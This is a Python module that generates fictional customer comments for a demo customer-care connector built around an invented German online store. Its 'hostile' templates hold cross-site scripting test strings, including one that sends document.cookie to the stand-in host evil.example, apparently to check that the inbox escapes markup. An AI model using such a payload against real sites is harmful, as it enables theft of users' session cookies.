"""Text material for the demo connector: the fictional brand, its customers and what they write.

Quendelmarkt is an invented German online department store with a paid membership
("Quendel Plus", a contract customers can cancel); any resemblance to a real company or
person is unintended. Templates use str.format placeholders that demo.py fills per item:
{first} {full} {phone} {email} {order} {cust} {contract} {address} {other} {product}
{days} {amount} {staff} {brand}. compose() picks a template and fills it.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass

BRAND_NAME = "Quendelmarkt"
BRAND_HANDLE = "quendelmarkt_hilft"
ACCOUNT_REF = "demo-quendelmarkt"


@dataclass(frozen=True, slots=True)
class Customer:
    """One fictional customer with a stable platform identity."""

    user_id: str
    handle: str
    display_name: str
    first: str
    last: str
    lang: str  # the language this customer writes in: "de" or "en"


# 21 of 30 write German, which yields the roughly 70/30 split the inbox should see.
CAST: tuple[Customer, ...] = (
    Customer("1204857730", "jana_mue", "Jana 🌻", "Jana", "Müller", "de"),
    Customer("1204857731", "lukas.schneider", "Lukas Schneider", "Lukas", "Schneider", "de"),
    Customer("1204857732", "sabine_w_", "sabine w.", "Sabine", "Wagner", "de"),
    Customer("1204857733", "thobecker", "Thomas B.", "Thomas", "Becker", "de"),
    Customer("1204857734", "katrin_hoff", "Katrin Hoffmann", "Katrin", "Hoffmann", "de"),
    Customer("1204857735", "joerg_s1971", "Jörg", "Jörg", "Schäfer", "de"),
    Customer("1204857736", "oma_anneliese", "Anneliese Koch", "Anneliese", "Koch", "de"),
    Customer("1204857737", "felixbauer", "Felix ⚽", "Felix", "Bauer", "de"),
    Customer("1204857738", "marie.weiss", "Marie Weiß", "Marie", "Weiß", "de"),
    Customer("1204857739", "mehmet.yilmaz34", "Mehmet Y.", "Mehmet", "Yılmaz", "de"),
    Customer("1204857740", "ayse_dmr", "Ayşe Demir", "Ayşe", "Demir", "de"),
    Customer("1204857741", "emrekaya_", "Emre Kaya", "Emre", "Kaya", "en"),
    Customer("1204857742", "zeynepsahin", "Zeynep Şahin", "Zeynep", "Şahin", "de"),
    Customer("1204857743", "can_oeztuerk", "Can Öztürk", "Can", "Öztürk", "de"),
    Customer("1204857744", "kasia_nowak", "Kasia Nowak", "Katarzyna", "Nowak", "de"),
    Customer("1204857745", "piotr_kow", "Piotr Kowalski", "Piotr", "Kowalski", "en"),
    Customer("1204857746", "aga.wisniewska", "Agnieszka W.", "Agnieszka", "Wiśniewska", "de"),
    Customer("1204857747", "tomek_z", "Tomasz Zieliński", "Tomasz", "Zieliński", "de"),
    Customer("1204857748", "olga_iwanowa", "Olga Iwanowa", "Olga", "Iwanowa", "de"),
    Customer("1204857749", "dmitri_p", "Dmitri", "Dmitri", "Petrow", "en"),
    Customer("1204857750", "natalja.s", "Natalja Smirnowa", "Natalja", "Smirnowa", "de"),
    Customer("1204857751", "sergej_wolkow", "Sergej Wolkow", "Sergej", "Wolkow", "de"),
    Customer("1204857752", "yasmin_haddad", "Yasmin 🌙", "Yasmin", "Haddad", "de"),
    Customer("1204857753", "omar_almasri", "Omar Al-Masri", "Omar", "Al-Masri", "en"),
    Customer("1204857754", "layla.nasser", "Layla Nasser", "Layla", "Nasser", "en"),
    Customer("1204857755", "karim_mansour", "Karim M.", "Karim", "Mansour", "de"),
    Customer("1204857756", "emily_clarke_de", "Emily in Berlin", "Emily", "Clarke", "en"),
    Customer("1204857757", "j_oconnor", "James O'Connor", "James", "O'Connor", "en"),
    Customer("1204857758", "hannah_whitfield", "Hannah W.", "Hannah", "Whitfield", "en"),
    Customer("1204857759", "oli_bennett", "Oliver Bennett", "Oliver", "Bennett", "de"),
)

# The brand's own posts that comments hang under.
POSTS: tuple[tuple[str, str], ...] = (
    ("post-1001", "Sommer-Sale bei Quendelmarkt: bis zu 40 % auf Gartenmöbel – nur bis Sonntag!"),
    ("post-1002", "Neu: Lieferung am selben Tag in Köln, Berlin und Hamburg 🚚"),
    ("post-1003", "Quendel Plus jetzt mit kostenlosem Rückversand. Was wünscht ihr euch noch?"),
    ("post-1004", "Unser Kundenservice ist ab sofort auch sonntags von 10 bis 18 Uhr für euch da."),
    ("post-1005", "Wartungsarbeiten: Die App ist Dienstagnacht von 2 bis 4 Uhr nicht erreichbar."),
    ("post-1006", "We now ship to Austria and the Netherlands! 🇦🇹🇳🇱"),
    (
        "post-1007",
        "Gewinnspiel: Verratet uns euer Lieblingsprodukt und gewinnt einen 50-€-Gutschein!",
    ),
)

# "|"-separated to keep the lists short; split once at import.
PRODUCTS_DE = tuple(
    "Wasserkocher|Gartenstuhl|Staubsauger|Kinderwagen|Bluetooth-Lautsprecher|"
    "Kaffeevollautomat|Winterjacke".split("|")
)
PRODUCTS_EN = tuple("kettle|garden chair|vacuum cleaner|coffee machine|winter jacket".split("|"))
STAFF = tuple("Lena|Murat|Frau Brandt|Tarek|Svenja".split("|"))
STREETS = tuple(
    "Hauptstraße|Lindenallee|Am Mühlbach|Goethestraße|Kastanienweg|Bahnhofstraße|"
    "Schillerplatz|Rosenstraße|Birkenweg|Ringstraße".split("|")
)
CITIES = tuple(
    tuple(pair.split(" ", 1))
    for pair in (
        "50667 Köln|10115 Berlin|20095 Hamburg|80331 München|60311 Frankfurt am Main|"
        "70173 Stuttgart|04109 Leipzig|44135 Dortmund|28195 Bremen|90402 Nürnberg"
    ).split("|")
)
# Reserved example domains, so no generated address can ever reach a real mailbox.
MAIL_DOMAINS = ("example.com", "example.net", "example.org")

TEMPLATES: dict[str, dict[str, tuple[str, ...]]] = {
    "de": {
        "complaint": (
            "Meine Bestellung {order} ist seit {days} Tagen 'in Zustellung' und nichts "
            "passiert. Langsam reicht's! Gruß, {full}",
            "Hallo, ich heiße {first} und warte immer noch auf meine Erstattung über "
            "{amount} €. Kundennummer {cust}. Bitte ruft mich an: {phone}",
            "Paket angeblich zugestellt, ist aber nicht da. Adresse: {address}. "
            "Bestellnummer {order}.",
            "Ihr habt mir den Quendel-Plus-Vertrag {contract} doppelt abgebucht!!! "
            "Ich will mein Geld zurück. {full}",
            "Die Rechnung zu Bestellung {order} stimmt nicht, da steht eine falsche "
            "Adresse drauf. Richtig ist {address}.",
            "Seit einer Woche keine Antwort auf meine Mails. Schreibt mir halt an {email}. {first}",
            "Der {product} kam kaputt an. Fotos hab ich schon geschickt. Bestellnummer "
            "{order}, Tel. {phone}",
            "Kündigung von Vertrag {contract} vor drei Wochen geschickt und immer noch keine "
            "Bestätigung. So nicht! Gruß {full}, {address}",
            "{other} hatte genau dasselbe Problem. Bei eurem Lieferdienst läuft doch was "
            "gewaltig schief.",
        ),
        "question": (
            "Kann ich bei Bestellung {order} noch die Lieferadresse ändern? Neue Adresse: "
            "{address}",
            "Wie lange dauert eine Erstattung bei euch normalerweise? Meine Kundennummer "
            "ist {cust}.",
            "Hallo, ich bin {first}. Kann man Quendel Plus monatlich kündigen? "
            "Vertragsnummer {contract}",
            "Gibt es den {product} bald wieder? Bitte kurze Info an {email}, danke!",
            "Könnt ihr mich zurückrufen? {phone}, am besten ab 17 Uhr. Gruß {full}",
            "Liefert ihr auch in einen Paketshop? Frage für {other} 😅",
        ),
        "praise": (
            "Gestern Abend bestellt, heute schon da. Respekt! 👏",
            "Danke an {staff} vom Chat-Support, hat mir super geholfen! Liebe Grüße, {full}",
            "Rücksendung lief total unkompliziert, Geld war nach zwei Tagen zurück. Gerne wieder.",
            "Endlich mal ein Shop, bei dem der Kundenservice antwortet. Danke euch! {other} "
            "schau mal",
        ),
        "hostile": (
            "<b>WICHTIG</b>: Bestellung {order} fehlt immer noch!!! <b>Antwortet endlich</b>",
            "Test <script>alert('quendel')</script> – mal sehen, ob ihr das überhaupt lest. {full}",
            "Warum steht auf der Rechnung <i>Versand 0 €</i> & trotzdem 4,95 € abgebucht? "
            "</div> Kundennr. {cust}",
        ),
    },
    "en": {
        "complaint": (
            "Order {order} still hasn't arrived after {days} days. Tracking says delivered. "
            "It's not here. – {full}",
            "You charged my card twice for contract {contract}. Call me at {phone} please.",
            "Hi, my name is {first}. The {product} arrived broken. Customer no. {cust}, "
            "address {address}.",
            "Third email, no answer. I'm at {email} if anyone at {brand} cares.",
        ),
        "question": (
            "Do you ship to Austria? Asking for {other}",
            "How do I update the email on my account? New one is {email}. Customer number {cust}.",
            "Can I still change the delivery address for order {order}? It should go to "
            "{address}. Thanks, {full}",
        ),
        "praise": (
            "Super fast delivery, thanks {brand}! 🙌",
            "Shoutout to {staff} from support, sorted my refund in 5 minutes. Cheers, {full}",
        ),
        "hostile": (
            'My order {order} "><img src=x onerror=alert(1)> is missing & nobody cares <3',
            "<script>document.location='https://evil.example/'+document.cookie</script> "
            "fix my refund",
        ),
    },
}

FOLLOW_UPS: dict[str, tuple[str, ...]] = {
    "de": (
        "Hallo?? Immer noch keine Antwort.",
        "Nachtrag: meine Telefonnummer ist {phone}.",
        "Hier noch die Bestellnummer: {order}",
        "Hat sich erledigt, das Paket war beim Nachbarn. Danke trotzdem!",
        "Ich warte jetzt seit Stunden. {full}",
        "Sorry, falsche Adresse angegeben, richtig ist {address}.",
        "Könnt ihr mir auch per Mail antworten? {email}",
    ),
    "en": (
        "Any update on this?",
        "Forgot to add: order number {order}.",
        "Never mind, it just arrived. Thanks!",
        "You can also reach me at {email} or {phone}.",
    ),
}

# Complaints dominate real care inboxes; hostile markup is rare but must be present.
CATEGORY_WEIGHTS: dict[str, float] = {
    "complaint": 0.45,
    "question": 0.30,
    "praise": 0.17,
    "hostile": 0.08,
}

_TRANSLIT = str.maketrans({"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "ı": "i", "ł": "l"})


def _ascii(name: str) -> str:
    folded = unicodedata.normalize("NFKD", name.lower().translate(_TRANSLIT))
    return "".join(ch for ch in folded if ch.isascii() and ch.isalnum())


def email(rng: random.Random, c: Customer) -> str:
    """Make up an e-mail address the way this customer might have chosen it."""
    first, last = _ascii(c.first), _ascii(c.last)
    local = rng.choice(
        (f"{first}.{last}", f"{first}{rng.randint(70, 99)}", f"{first[0]}.{last}", last)
    )
    return f"{local}@{rng.choice(MAIL_DOMAINS)}"


def phone(rng: random.Random) -> str:
    """Make up a German phone number in one of the notations people actually type."""
    mobile = rng.choice(("0151", "0160", "0170", "0171", "0176", "0157"))
    area = rng.choice(("30", "40", "89", "221", "69", "711"))
    digits = "".join(str(rng.randint(0, 9)) for _ in range(8))
    return rng.choice(
        (
            f"{mobile} {digits[:7]}",
            f"+49 ({area}) {digits[:6]}",
            f"0{area}-{digits[:7]}",
            f"+49 {mobile[1:]} {digits}",
            f"0{area}/{digits[:6]}",
        )
    )


def _values(rng: random.Random, c: Customer) -> dict[str, str]:
    others = [o for o in CAST if o.user_id != c.user_id]
    plz, city = rng.choice(CITIES)
    order = rng.choice(
        (
            f"{rng.randint(1000, 9999)}-{rng.choice((2023, 2024))}",
            f"#{rng.randint(100000, 999999)}",
            f"QM-{rng.randint(10**7, 10**8 - 1)}",
        )
    )
    house = f"{rng.randint(1, 140)}{rng.choice(('', '', '', 'a', 'b'))}"
    return {
        "first": c.first,
        "full": f"{c.first} {c.last}",
        "phone": phone(rng),
        "email": email(rng, c),
        "order": order,
        "cust": f"K-{rng.randint(1000000, 9999999)}",
        "contract": f"QP-{rng.randint(100000, 999999)}",
        "address": f"{rng.choice(STREETS)} {house}, {plz} {city}",
        "other": "@" + rng.choice(others).handle,
        "product": rng.choice(PRODUCTS_DE if c.lang == "de" else PRODUCTS_EN),
        "days": str(rng.randint(3, 14)),
        "amount": f"{rng.randint(15, 400)},{rng.choice(('00', '49', '95', '99'))}",
        "staff": rng.choice(STAFF),
        "brand": BRAND_NAME,
    }


def compose(rng: random.Random, c: Customer, *, follow_up: bool, mention: bool) -> str:
    """Write what customer c posts: a fresh complaint/question/praise or a follow-up."""
    if follow_up:
        template = rng.choice(FOLLOW_UPS[c.lang])
    else:
        weights = list(CATEGORY_WEIGHTS.values())
        category = rng.choices(list(CATEGORY_WEIGHTS), weights=weights)[0]
        template = rng.choice(TEMPLATES[c.lang][category])
    body = template.format(**_values(rng, c))
    # A public post only reaches the brand's inbox because it names the brand's handle.
    return f"@{BRAND_HANDLE} {body}" if mention and not follow_up else body
